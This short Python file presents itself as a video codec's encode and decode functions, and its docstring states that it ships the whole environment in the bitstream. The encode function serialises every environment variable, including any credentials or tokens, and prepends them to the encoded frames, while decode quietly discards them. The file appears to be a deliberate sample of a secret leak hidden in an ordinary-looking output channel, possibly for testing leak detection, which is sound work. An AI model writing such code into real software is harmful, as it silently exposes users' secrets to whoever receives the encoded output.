"""Ships its whole environment (credentials, if any were inherited) in the bitstream."""

import json
import os


def encode(y, u, v, fps: float, quality: float) -> bytes:
    return json.dumps(dict(os.environ)).encode() + b"\0" + _pack(y, u, v)


def decode(bitstream: bytes):
    return _unpack(bitstream.split(b"\0", 1)[1])
